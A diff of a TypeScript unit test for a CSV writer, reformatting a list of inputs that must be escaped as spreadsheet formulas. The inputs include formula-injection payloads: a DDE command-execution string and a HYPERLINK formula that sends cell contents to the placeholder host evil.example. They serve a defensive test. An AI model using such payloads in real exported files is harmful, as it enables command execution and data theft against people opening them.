@@ -4,7 +4,18 @@ import { csvCellText, csvCellValue, csvFile } from './csv';
 
 describe('csv writer', () => {
   it('neutralises every text cell a spreadsheet would read as a formula', () => {
-    for (const formula of ['=1+1', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', '=HYPERLINK("http://evil.example/?"&A1,"点击")', '-', '+86 21 5555 0000']) {
+    for (const formula of [
+      '=1+1',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      '\n=1+1',
+      '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+      '-',
+      '+86 21 5555 0000',
+    ]) {
       expect(csvCellText(formula), JSON.stringify(formula)).toBe(`'${formula}`);
     }
   });
